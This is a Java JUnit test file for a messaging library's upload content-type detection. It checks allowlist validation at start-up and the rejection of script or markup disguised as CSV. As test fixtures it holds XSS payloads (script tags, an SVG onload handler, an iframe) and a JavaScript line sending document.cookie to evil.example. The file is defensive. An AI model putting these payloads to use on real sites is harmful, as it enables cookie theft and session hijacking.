package io.clientportal.messaging;

import io.clientportal.messaging.model.Attachment;
import io.clientportal.messaging.model.TeamRole;
import io.clientportal.messaging.spi.ContentTypeDetector;
import io.clientportal.messaging.tika.TikaContentTypeDetector;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Uploads are typed by the configured detector, and an allowlist no detector can satisfy is refused at start-up. */
class ContentTypeDetectionTests {

    private static final Actor OLIVIA = Actor.teamMember("olivia");
    private static final byte[] CSV = "name,amount\nAda,12\n".getBytes(StandardCharsets.UTF_8);
    /** An MP4's first box: {@code ftyp}, major brand {@code mp42}. */
    private static final byte[] MP4 = {0, 0, 0, 24, 'f', 't', 'y', 'p', 'm', 'p', '4', '2', 0, 0, 0, 0,
        'm', 'p', '4', '2', 'i', 's', 'o', 'm'};

    private Messaging messaging;

    @AfterEach
    void close() {
        if (messaging != null) {
            messaging.close();
        }
    }

    @Test
    void anAllowedTypeTheBuiltInDetectorCantRecogniseIsRefusedAtStartUp() {
        MessagingBuilder builder = Messaging.builder()
                .limits(MessagingLimits.defaults().withAdditionalContentTypes("video/mp4", "text/csv"));

        assertThatThrownBy(builder::build)
                .isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("text/csv, video/mp4")
                .hasMessageContaining("StandardContentTypeDetector")
                .hasMessageContaining("tika-core");
    }

    @Test
    void anAliasIsRefusedAtStartUpEvenByTika() {
        MessagingBuilder builder = Messaging.builder().contentTypeDetector(new TikaContentTypeDetector())
                .limits(MessagingLimits.defaults().withAdditionalContentTypes("image/hevc"));

        assertThatThrownBy(builder::build).isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("image/hevc").hasMessageContaining("TikaContentTypeDetector");
    }

    @Test
    void withTikaCsvAndVideoAreAcceptedAndAHeaderThatLiesIsIgnored() throws Exception {
        start(new TikaContentTypeDetector(), "text/csv", "video/mp4");

        assertThat(upload("ledger.csv", "application/pdf", CSV).contentType()).isEqualTo("text/csv");
        Attachment clip = upload("clip.mp4", "image/png", MP4);
        assertThat(clip.contentType()).isEqualTo("video/mp4");
        try (AttachmentContent content = messaging.attachments().open(OLIVIA, clip.id())) {
            assertThat(content.stream().readAllBytes()).isEqualTo(MP4);
        }
    }

    @Test
    void withTikaATypeNotAllowedIsStillRefused() {
        start(new TikaContentTypeDetector());

        assertThatThrownBy(() -> upload("clip.mp4", "video/mp4", MP4))
                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                        e -> assertThat(e.detectedType()).isEqualTo("video/mp4"));
        assertThatThrownBy(() -> upload("clip.mp4", "video/mp4", new byte[]{1, 2, 3, 0, 4}))
                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                        e -> assertThat(e.detectedType()).isEqualTo("application/octet-stream"));
    }

    @Test
    void markupAndScriptAreNeverAHarmlessTextWhateverTheDetectorSays() {
        ContentTypeDetector naive = new ContentTypeDetector() {
            @Override
            public String detect(byte[] head, int length, String filename) {
                return "Text/CSV; charset=UTF-8";
            }

            @Override
            public boolean recognises(String contentType) {
                return true;
            }
        };
        start(naive, "text/csv");
        byte[] script = "name,amount\nAda,<script>alert(1)</script>\n".getBytes(StandardCharsets.UTF_8);

        assertThatThrownBy(() -> upload("ledger.csv", "text/csv", script))
                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                        e -> assertThat(e.detectedType()).isEqualTo("text/html"));
        byte[] js = "document.location = 'https://evil.example/?' + document.cookie;".getBytes(StandardCharsets.UTF_8);
        assertThatThrownBy(() -> upload("ledger.csv", "text/csv", js))
                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                        e -> assertThat(e.detectedType()).isEqualTo("text/javascript"));
        assertThat(upload("ledger.csv", "text/plain", CSV).contentType()).isEqualTo("text/csv");
    }

    @Test
    void withTikaMarkupNamedAsCsvIsRefused() {
        start(new TikaContentTypeDetector(), "text/csv");
        byte[] svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
                .getBytes(StandardCharsets.UTF_8);
        byte[] html = "a,b\n1,2\n<iframe src=x>".getBytes(StandardCharsets.UTF_8);

        assertThatThrownBy(() -> upload("ledger.csv", "text/csv", svg))
                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                        e -> assertThat(e.detectedType()).isEqualTo("image/svg+xml"));
        assertThatThrownBy(() -> upload("ledger.csv", "text/csv", html))
                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                        e -> assertThat(e.detectedType()).isEqualTo("text/html"));
    }

    private void start(ContentTypeDetector detector, String... allowed) {
        messaging = Messaging.builder().contentTypeDetector(detector)
                .limits(MessagingLimits.defaults().withAdditionalContentTypes(allowed)).build();
        messaging.directory().upsertTeamMember(OLIVIA.id(), "Olivia", TeamRole.OWNER);
    }

    private Attachment upload(String name, String declared, byte[] bytes) {
        return messaging.attachments().upload(OLIVIA, name, declared, new ByteArrayInputStream(bytes));
    }
}
